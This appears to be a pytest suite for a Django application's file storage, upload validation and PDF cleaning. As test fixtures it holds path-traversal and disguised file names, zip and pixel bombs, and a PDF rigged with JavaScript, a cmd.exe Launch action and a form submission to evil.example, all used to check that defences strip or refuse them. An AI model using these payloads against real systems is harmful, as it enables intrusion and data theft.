"""Files: the bytes are never altered and stored once; only what opens is accepted; pages show derived versions."""

import errno
import hashlib
import io
import os
import struct
import subprocess
import threading
import time
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings as project_settings
from django.core.files.storage import FileSystemStorage, default_storage
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.db import connections
from django.urls import reverse
from PIL import Image

from lorbeer.people.models import Person
from lorbeer.shared import clock, files, filetypes, queries, scan_pool, scans
from lorbeer.shared.errors import BadInput, Busy, LorbeerError
from lorbeer.shared.limits import Room
from lorbeer.shared.models import Blob, StoredFile
from lorbeer.shared.verdicts import ALLOWED, Verdict

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    """A file store of its own."""
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path / "files"}}
    }
    return tmp_path / "files"


def kept(folder):
    return sorted(path.name for path in folder.rglob("*") if path.is_file())


def picture(kind="JPEG", size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 0).save(out, kind, **options)
    return out.getvalue()


def png_of_size(width, height):
    """The start of a PNG that claims so many pixels."""
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (head, b"IDAT" + zlib.compress(b""), b"IEND")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(part) - 4) + part + struct.pack(">I", zlib.crc32(part)) for part in parts)


def pdf(change=lambda pdf: None, **options):
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        made.save(out, **options)
    return out.getvalue()


def package(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return out.getvalue()


DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
ODT = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"}


def upload(data, name, kinds=("image", "pdf", "document"), **facts):
    return files.accept_upload(SimpleUploadedFile(name, data), kinds, **facts)


# --- storing


def test_the_bytes_lie_under_their_hash_and_once(folder):
    data = os.urandom(3_000_000)
    first = files.store(data, name="a.bin", scope="demo", subject="entry:K", stored_by="P-1")
    second = files.store(io.BytesIO(data), name="b.bin")
    sha256 = hashlib.sha256(data).hexdigest()
    assert kept(folder) == [sha256]
    assert (folder / sha256[:2] / sha256[2:4] / sha256).read_bytes() == data
    assert (files.read(first), files.read(second)) == (data, data)
    assert first.code != second.code
    assert (Blob.objects.get().size, first.blob_id) == (3_000_000, sha256)


def test_bytes_that_storage_lost_are_told_and_stored_again(folder):
    stored = files.store(b"x", name="x.txt")
    (folder / files.key_of(stored.blob_id)).unlink()
    with pytest.raises(LorbeerError, match="x.txt"):
        files.read(stored)
    files.store(b"x", name="y.txt")
    assert files.read(stored) == b"x"


@pytest.mark.parametrize(("given", "kept_as"), [
    ("../../etc/passwd", "passwd"), ("C:\\Users\\x\\Bild.jpg", "Bild.jpg"), ("a\0b\x1f\u202egpj.exe", "ab gpj.exe"),
    ("…/.htaccess", "htaccess"), ("", "file"), ("..", "file"), ("  Ein   Bild\n.png", "Ein Bild .png"),
    ("U\u0308ber.pdf", "Über.pdf"), ("x" * 300 + ".pdf", "x" * 146 + ".pdf"), ("a." + "y" * 300, "a." + "y" * 148),
])
def test_names_are_made_harmless(given, kept_as):
    assert files.store(b"x", name=given).name == kept_as


@pytest.mark.django_db(transaction=True)
def test_the_same_bytes_from_many_sides_at_once_are_stored_once(folder):
    data, failures = os.urandom(500_000), []

    def store():
        try:
            files.store(data, name="a.bin")
        except Exception as error:
            failures.append(error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=store) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []
    assert (StoredFile.objects.count(), Blob.objects.count(), len(kept(folder))) == (6, 1, 1)


@pytest.fixture
def small_disk(settings, tmp_path):
    """A real disk of one megabyte."""
    place = tmp_path / "small"
    place.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(place)], capture_output=True).returncode:
        pytest.skip("only root can mount a small disk")
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": place}}
    }
    yield place
    subprocess.run(["umount", str(place)], check=True)


def test_a_full_disk_is_said_and_leaves_nothing(small_disk):
    kept_before = files.store(b"x" * 400_000, name="a.bin")
    with pytest.raises(LorbeerError, match="space|Speicherplatz"):
        files.store(os.urandom(900_000), name="b.bin")
    assert kept(small_disk) == [kept_before.blob_id]
    assert (StoredFile.objects.count(), Blob.objects.count()) == (1, 1)
    assert files.store(b"small", name="c.txt")


def test_a_full_remote_storage_is_said_and_leaves_nothing(settings, monkeypatch):
    def full(*arguments, **options):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(FileSystemStorage, "path", lambda *a: (_ for _ in ()).throw(NotImplementedError))
    monkeypatch.setattr(FileSystemStorage, "save", full)
    monkeypatch.setattr(FileSystemStorage, "exists", lambda *a: False)
    with pytest.raises(LorbeerError, match="space|Speicherplatz"):
        files.store(b"x", name="b.bin")
    assert not Blob.objects.exists()


def test_a_storage_that_is_no_folder_gets_whole_files(folder, monkeypatch):
    monkeypatch.setattr(files, "local_folder", lambda: None)
    stored = files.store(b"remote", name="r.txt")
    files.store(b"remote", name="s.txt")
    assert (files.read(stored), kept(folder)) == (b"remote", [stored.blob_id])


# --- accepting


@pytest.mark.parametrize(("data", "name", "media_type"), [
    (picture(), "a.jpg", "image/jpeg"), (picture("PNG"), "a.png", "image/png"), (picture("WEBP"), "a.webp", "image/webp"),
    (picture("TIFF"), "a.tif", "image/tiff"), (picture(), "mislabelled.pdf", "image/jpeg"), (pdf(), "a.pdf", "application/pdf"),
    (b"\n\n" + pdf(), "junk-before.pdf", "application/pdf"),
    (package(DOCX), "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (package({"[Content_Types].xml": "", "xl/workbook.xml": ""}), "a.xlsx",
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    (package(ODT), "a.odt", "application/vnd.oasis.opendocument.text"),
    ("Grüße, 1 < 2".encode(), "a.txt", "text/plain"), ("Grüße".encode("latin-1"), "a.txt", "text/plain"),
    (b"a;b\n1;2", "a.csv", "text/csv"),
])
def test_what_opens_is_accepted_unaltered_and_known_by_its_content(data, name, media_type):
    stored = upload(data, name, stored_by="P-1", scope="demo")
    assert (stored.blob.media_type, files.read(stored), stored.scope) == (media_type, data, "demo")


def test_a_mail_is_accepted_only_where_mails_are_asked_for():
    data = b"From: a@example.org\r\nDate: Mon, 1 Jan 2018 10:00:00 +0100\r\nSubject: x\r\n\r\nHello"
    assert upload(data, "a.eml", {"mail"}).blob.media_type == "message/rfc822"
    with pytest.raises(BadInput):
        upload(data, "a.eml")
    with pytest.raises(BadInput):
        upload(b"no mail", "a.eml", {"mail"})


@pytest.mark.once
def test_a_pdf_that_takes_too_long_to_open_is_given_up(monkeypatch):
    assert scans.COUNTING_SECONDS <= scans.CLEANING_SECONDS <= 10
    monkeypatch.setattr(scans, "CLEANING_SECONDS", 1)
    broken = b"%PDF-1.7\n" + b"".join(b"%d 0 obj<<>>endobj\n" % number for number in range(1, 1_000_000))
    began = time.monotonic()
    with pytest.raises(BadInput, match="wurde nicht gespeichert"):
        upload(broken, "lang.pdf")
    assert time.monotonic() - began < 3


@pytest.mark.parametrize(("data", "name"), [
    (b"", "empty.pdf"), (b"MZ\x90\0", "a.exe"), (b"MZ\x90\0", "a.jpg"), (b"\x7fELF\2\1", "a"), (b"#!/bin/sh\nrm", "a.txt"),
    (b"<!DOCTYPE html><script>", "a.txt"), (b"<html>", "a.html"), (b"hello", "a.html"), (b"hello", "a.js"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "a.svg"),
    (b'<?xml version="1.0"?><svg/>', "a.png"), (b"GIF89a<script>", "a.gif"),
    (picture()[:400], "broken.jpg"), (picture("PNG")[:60], "broken.png"), (b"%PDF-1.7 nothing", "broken.pdf"),
    (pdf()[:200], "cut.pdf"), (pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "locked.pdf"),
    (package({"a.txt": "x"}), "a.zip"), (package(DOCX | {"word/vbaProject.bin": "x"}), "a.docx"),
    (package({"[Content_Types].xml": ""}), "a.docx"), (package({"mimetype": "application/epub+zip"}), "a.odt"),
    (package(DOCX)[:-20], "cut.docx"),
    (package(DOCX | {"word/media/x": b"\0" * 30_000_000}), "bomb.docx"), (b"abc\0def", "a.txt"), (b"\x01\x02\x03", "a.txt"),
    (picture("PNG", (9000, 9000), "1"), "bomb.png"),
    (picture("TIFF", save_all=True, append_images=[Image.new("RGB", (60, 40))]), "pages.tif"),
])
def test_what_does_not_open_is_refused_with_a_sentence_and_nothing_kept(folder, data, name):
    with pytest.raises(BadInput) as refusal:
        upload(data, name)
    assert name in str(refusal.value)
    assert "wurde nicht gespeichert" in str(refusal.value)
    assert "itte " in str(refusal.value)                                # what to do
    assert not StoredFile.objects.exists()
    assert kept(folder) == []


@pytest.mark.parametrize(("data", "name", "endings", "said"), [
    (b"no picture", "bad.jpg", ("jpg", "png"), "nicht dem Namen entspricht"),
    (pdf(), "bad.jpg", (), "nicht dem Namen entspricht"),
    (b"GIF89a", "bad.gif", (), "Dateien dieser Art"), (pdf(), "plan.pdf", (), "Dateien dieser Art"),
    (b"hello", "brief.docx", ("jpg", "png"), "Dateien dieser Art"), (package({"a.txt": "x"}), "bilder.zip", (), "Dateien dieser Art"),
])
def test_a_file_that_is_not_what_its_name_says_is_told_apart_from_one_of_another_kind(data, name, endings, said):
    with pytest.raises(BadInput) as refusal:
        files.accept_upload(SimpleUploadedFile(name, data), ("image",), endings=endings)
    assert said in str(refusal.value)
    assert "JPEG, PNG" in str(refusal.value)


@pytest.mark.parametrize(("member", "said"), [("word/media/x.png", "verkleinern Sie die Bilder"), ("word/x.xml", "als PDF oder ohne")])
def test_a_document_that_grows_without_pictures_is_not_told_to_make_them_smaller(member, said):
    with pytest.raises(BadInput, match=said):
        upload(package(DOCX | {member: b"\0" * 12_000_000}), "bomb.docx")


@pytest.mark.parametrize("side", [9_000, 30_000])
def test_a_picture_of_too_many_pixels_is_called_so(side):
    with pytest.raises(BadInput, match="Bildpunkte"):
        upload(png_of_size(side, side), "bomb.png")


def test_only_the_kinds_that_were_asked_for_are_accepted():
    with pytest.raises(BadInput, match="PDF"):
        upload(picture(), "a.jpg", {"pdf"})
    with pytest.raises(ValueError, match="Unknown"):
        upload(picture(), "a.jpg", {"film"})


def test_a_file_that_is_too_large_is_refused_whatever_size_it_claims(folder, settings):
    settings.MAX_UPLOAD_MB = 1
    large = TemporaryUploadedFile("a.txt", "text/plain", 10, None)
    large.write(b"x" * 1_100_000)
    large.flush()
    with pytest.raises(BadInput, match="1 MB"):
        files.accept_upload(large)
    with pytest.raises(BadInput, match="1 MB"):
        upload(b"x" * 1_100_000, "a.txt")
    assert kept(folder) == []


def test_a_place_holds_so_much_and_no_more(folder, monkeypatch):
    monkeypatch.setattr(files, "UPLOADS", Room(number=2, megabytes=1))
    facts = {"scope": "demo", "subject": "entry:K"}
    files.store(os.urandom(700_000), name="receipt.pdf", **facts)       # what the house makes does not count
    first = upload(b"a" * 600_000, "a.txt", **facts)
    with pytest.raises(BadInput, match="1 MB"):
        upload(b"b" * 600_000, "b.txt", **facts)
    upload(b"c", "c.txt", **facts)
    with pytest.raises(BadInput, match="2 "):
        upload(b"d", "d.txt", **facts)
    upload(b"d", "d.txt", scope="demo", subject="entry:M")
    files.forget(first)
    assert upload(b"d", "d.txt", **facts)


@pytest.mark.django_db(transaction=True)
def test_bytes_go_with_the_last_file_that_has_them(folder):
    first, second = upload(picture(), "a.jpg"), upload(picture(), "b.jpg")
    files.web_picture(first)
    files.forget(first)
    assert kept(folder) == [second.blob_id]
    files.forget(second)
    assert (kept(folder), Blob.objects.exists()) == ([], False)
    assert files.read(upload(picture(), "a.jpg")) == picture()


@pytest.mark.django_db(transaction=True)
def test_bytes_that_are_stored_while_others_forget_them_are_there():
    failures = []

    def come_and_go():
        try:
            for _ in range(10):
                files.forget(files.store(b"the same", name="a.txt"))
            assert files.read(files.store(b"the same", name="b.txt")) == b"the same"
        except Exception as error:
            failures.append(error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=come_and_go) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []
    assert [files.read(stored) for stored in StoredFile.objects.all()] == [b"the same"] * 4


# --- deriving


@pytest.mark.parametrize(("kind", "mode"), [("PNG", "P"), ("PNG", "1"), ("PNG", "RGBA"), ("PNG", "I;16"), ("TIFF", "RGB"), ("JPEG", "L")])
def test_large_pictures_become_small_before_they_are_copied(kind, mode, monkeypatch):
    seen = []
    monkeypatch.setattr(filetypes, "to_srgb", lambda picture, plain=filetypes.to_srgb: seen.append(picture.size) or plain(picture))
    exif = Image.Exif()
    exif[filetypes.ORIENTATION] = 6
    with Image.open(io.BytesIO(filetypes.web_picture(picture(kind, (4000, 2000), mode, exif=exif), 400)[0])) as shown:
        assert shown.size == (200, 400)
    assert max(width * height for width, height in seen) <= 4000 * 2000 // 4


def photo():
    """Upright when turned by its EXIF note, with a place in it."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Camera of A. Beispiel"
    exif.get_ifd(0x8825)[1] = "N"
    image = Image.new("RGB", (2000, 1000), "blue")
    image.paste("red", (0, 0, 200, 1000))
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def test_pictures_on_pages_are_upright_small_and_tell_nothing():
    original = upload(photo(), "Foto.jpg", alternative_text="Ein Fest", credit="A. Beispiel", is_sample=True)
    web = files.web_picture(original)
    data = files.read(web)
    with Image.open(io.BytesIO(data)) as shown:
        assert (shown.format, shown.size, dict(shown.getexif())) == ("WEBP", (800, 1600), {})
        assert shown.convert("RGB").getpixel((400, 20))[0] > 200
    assert b"Camera" not in data
    assert files.read(original) == photo()
    assert (web.original, web.kind, web.is_sample) == (original, "web", True)
    assert (web.alternative_text, web.credit) == ("Ein Fest", "A. Beispiel")
    assert files.web_picture(original) == web
    with Image.open(io.BytesIO(files.read(files.thumbnail(original)))) as small:
        assert max(small.size) == 480


@pytest.mark.parametrize(("kind", "mode"), [
    ("JPEG", "CMYK"), ("JPEG", "L"), ("PNG", "RGBA"), ("PNG", "P"), ("PNG", "1"), ("PNG", "LA"), ("TIFF", "I;16"),
    ("TIFF", "CMYK"),
])
def test_pictures_of_every_colour_space_become_pictures_for_pages(kind, mode):
    stored = upload(picture(kind, mode=mode), f"a.{kind.lower()}")
    with Image.open(io.BytesIO(files.read(files.web_picture(stored)))) as shown:
        assert shown.size == (60, 40)


def armed(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["x", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(2)")])
    )
    made.attachments["virus.exe"] = b"MZ-secret"
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    sending = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=[
            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/form"),
            pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(4)"),
        ]),
    )
    good = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/"),
    )
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9])
    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(link), good, note, sending]))
    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(3)"))


@pytest.mark.once
def test_what_is_packed_in_a_pdf_is_unpacked_in_a_process_of_its_own(monkeypatch):
    """Of packed objects a small file can hold what takes seconds and gigabytes."""
    def here(data):
        raise AssertionError("opened in the process that answers others")

    plain, packed = pdf(), io.BytesIO()
    with pikepdf.open(io.BytesIO(plain)) as made:
        made.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    monkeypatch.setattr(scans.scan_worker, "page_count", here)
    monkeypatch.setattr(scans.scan_worker, "clean", here)
    for data in (packed.getvalue(), packed.getvalue().replace(b"/ObjStm", b"/Obj#53tm"), plain + b" " * scans.SMALL):
        assert scans.count_pages(data) == 1
    assert filetypes.clean_pdf(plain)[0].startswith(b"%PDF-")
    with pytest.raises(ValueError, match="opens"):                      # which it would have been: a small one with nothing packed
        scans.count_pages(plain)


@pytest.mark.once
def test_a_page_that_unpacks_to_a_hundred_megabytes_is_cleaned_without_unpacking_it():
    made = pikepdf.new()
    made.add_blank_page()
    made.pages[0].Contents = made.make_stream(b"q Q " * 25_000_000)
    packed = io.BytesIO()
    made.save(packed, compress_streams=True)
    started = time.perf_counter()
    assert len(filetypes.clean_pdf(packed.getvalue())[0]) < 1_000_000
    assert time.perf_counter() - started < 5


def test_a_pdf_that_cannot_be_cleaned_in_time_is_not_tried_again_at_once(monkeypatch):
    tries = []

    def slow(words, data, seconds):
        tries.append(words[0])
        return b"", False

    stored = upload(pdf(), "a.pdf")
    monkeypatch.setattr(scan_pool, "run", slow)
    for _turn in range(3):
        with pytest.raises(BadInput, match="beschädigt"):
            files.shown(StoredFile.objects.get(pk=stored.pk))
    assert tries == ["clean"]
    Blob.objects.update(not_cleaned_at=clock.now() - timedelta(days=2))
    with pytest.raises(BadInput, match="beschädigt"):
        files.shown(StoredFile.objects.get(pk=stored.pk))
    assert tries == ["clean"] * 2


def test_only_two_pdfs_are_cleaned_at_once_and_waiting_is_no_failure(monkeypatch):
    stored = upload(pdf(), "a.pdf")
    monkeypatch.setattr(scans, "PATIENCE", 0.01)
    with scans.CLEANING, scans.CLEANING, pytest.raises(Busy):
        files.shown(stored)
    assert files.shown(StoredFile.objects.get(pk=stored.pk)).kind == "cleaned"


def test_whoever_sends_a_pdf_that_cannot_be_cleaned_hears_of_it(monkeypatch):
    def run(words, data, seconds):
        tried.append(words[0])
        return b"1", False                                              # counted, and then it took too long

    tried: list[str] = []
    monkeypatch.setattr(scan_pool, "run", run)
    with pytest.raises(BadInput, match="neue PDF-Datei"):
        upload(pdf() + b" " * scans.SMALL, "a.pdf")
    assert not StoredFile.objects.exists()
    assert tried == ["try"]                                             # one process, not two


@pytest.mark.once
def test_while_others_are_cleaned_a_pdf_that_is_sent_is_only_counted(monkeypatch):
    monkeypatch.setattr(scans, "PATIENCE", 0.01)
    with scans.CLEANING, scans.CLEANING:
        assert scans.try_pdf(pdf() + b" " * scans.SMALL, most=9) == (1, True)
    assert scans.try_pdf(pdf() + b" " * scans.SMALL, most=9) == (1, True)
    with pytest.raises(ValueError, match="opens"):
        scans.try_pdf(b"%PDF-1.7 nothing" + b" " * scans.SMALL, most=9)


def test_a_cleaned_pdf_keeps_its_pages_and_links_and_nothing_that_acts():
    original = upload(pdf(armed), "a.pdf")
    cleaned = files.shown(original)
    with pikepdf.open(io.BytesIO(files.read(cleaned))) as made:
        plain = io.BytesIO()
        made.save(plain, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False, qdf=True)
        assert len(made.pages) == 1
        assert not made.attachments
    text = plain.getvalue()
    for word in (b"alert", b"Launch", b"MZ-secret", b"virus", b"FileAttachment", b"evil.example", b"SubmitForm"):
        assert word not in text, word
    assert b"https://example.org/" in text
    assert files.read(original) == pdf(armed) or b"alert" in files.read(original)


# --- downloading


def sign_in(client, email="a@example.org"):
    person = Person.objects.create_user(email, "a long password", name="A. Beispiel")
    client.force_login(person, backend=project_settings.AUTHENTICATION_BACKENDS[-1])
    return person


def body(response):
    return b"".join(response.streaming_content)


def test_a_public_file_is_read_by_everybody_and_asked_for_anew_each_time(client):
    stored = files.store(picture(), name="Ein Bild.jpg", access="public")
    response = client.get(files.address_of(stored))
    assert (response.status_code, body(response)) == (200, picture())
    assert response["Cache-Control"] == "public, no-cache"              # what is open can be closed again
    again = client.get(files.address_of(stored), headers={"If-None-Match": response["ETag"]})
    assert again.status_code == 304


ALONE = "default-src 'none'; frame-ancestors 'none'"


@pytest.mark.parametrize(("stored", "media_type", "disposition", "policy"), [
    (lambda: upload(photo(), "Ein Bild.jpg"), "image/webp", 'inline; filename="Ein Bild.webp"', f"{ALONE}; sandbox"),
    (lambda: upload(pdf(armed), "a.pdf"), "application/pdf", 'attachment; filename="a.pdf"', f"{ALONE}; sandbox"),
    (lambda: files.store(pdf(), name="a.pdf"), "application/pdf", 'inline; filename="a.pdf"', ALONE),
    (lambda: upload(package(DOCX), "a.docx"), filetypes.OFFICE["word/document.xml"], 'attachment; filename="a.docx"', f"{ALONE}; sandbox"),
    (lambda: upload(b"1 < 2", "Übersicht.txt"), "text/plain", "attachment; filename*=utf-8''%C3%9Cbersicht.txt", f"{ALONE}; sandbox"),
    (lambda: files.store(b"<html>", name="a.html"), "text/html", 'attachment; filename="a.html"', f"{ALONE}; sandbox"),
], ids=["photo", "PDF of a stranger", "our own PDF", "Word", "text", "our own page"])
def test_what_people_sent_is_shown_cleaned_or_downloaded(client, stored, media_type, disposition, policy):
    stored = stored()
    files.release(stored)
    response = client.get(files.address_of(stored))
    assert response.status_code == 200
    assert (response["Content-Type"], response["Content-Disposition"]) == (media_type, disposition)
    assert (response["Content-Security-Policy"], response["X-Content-Type-Options"]) == (policy, "nosniff")
    content = body(response)
    assert b"Camera" not in content
    assert b"JavaScript" not in content


def test_the_original_is_for_its_bringer_and_those_who_keep_the_record(client, monkeypatch):
    monkeypatch.setattr(queries.tells_keepers, "registered", [lambda who, scope: getattr(who, "name", "") == "Büro" and scope == "demo"])
    bringer, office, reader = (Person.objects.create_user(f"{n}@example.org", "a long password", name=n)
                               for n in ("Ada", "Büro", "Jury"))
    stored = upload(photo(), "Foto.jpg", stored_by=bringer, scope="demo", access="public")
    address = files.original_address(stored)
    for person in (bringer, office):
        client.force_login(person, backend=project_settings.AUTHENTICATION_BACKENDS[-1])
        response = client.get(address)
        assert (response.status_code, body(response)) == (200, photo())
        assert response["Content-Disposition"] == 'attachment; filename="Foto (Original).jpg"'
        assert response["Cache-Control"].startswith("private")
        assert files.listed(person, [stored])[0]["original"] == address
    client.force_login(reader, backend=project_settings.AUTHENTICATION_BACKENDS[-1])
    assert client.get(address).status_code == 403
    assert files.listed(reader, [stored])[0]["original"] == ""
    client.logout()
    assert client.get(address).status_code == 403


def test_a_restricted_file_is_for_those_whom_the_rule_of_its_app_lets_and_not_for_its_bringer(client, monkeypatch):
    monkeypatch.setattr(files, "_rules", {})
    monkeypatch.setattr(queries.tells_insiders, "registered", [])
    stored = upload(picture(), "a.jpg", scope="demo", subject="entry:K7")
    address = files.address_of(stored)
    assert client.get(address).status_code == 404
    person = sign_in(client)
    assert client.get(address).status_code == 404
    files.allow("entry:", lambda who, stored: Verdict("Noch versiegelt."))
    assert client.get(address).status_code == 404
    files.allow("entry:K7", lambda who, stored: ALLOWED)
    response = client.get(address)
    assert (response.status_code, "private" in response["Cache-Control"], body(response)) == (200, True, files.read(files.web_picture(stored)))
    own = upload(picture("PNG"), "b.png", stored_by=person, scope="demo", subject="entry:other")
    assert client.get(files.address_of(own)).status_code == 404


def test_an_insider_hears_why_a_file_is_not_for_them(monkeypatch):
    monkeypatch.setattr(files, "_rules", {"entry:": lambda who, stored: Verdict("Noch versiegelt.")})
    stored = upload(picture(), "a.jpg", scope="demo", subject="entry:K7")
    assert files.may_read(None, stored).reason == "Noch versiegelt."


def test_an_unknown_file_is_not_found(client):
    assert client.get(reverse("file_download", args=["NOSUCH-X", "a.jpg"])).status_code == 404


def test_released_files_are_public_with_what_is_derived_from_them():
    stored = upload(picture(), "a.jpg")
    web = files.web_picture(stored)
    files.release(stored)
    web.refresh_from_db()
    assert (stored.access, web.access) == ("public", "public")


def test_names_of_kinds_and_readers_agree():
    assert set(filetypes.OPENERS) == {"image", "pdf", "document", "mail"}
    assert default_storage.exists("nothing") is False
    assert Path(project_settings.VAR_DIR).exists()
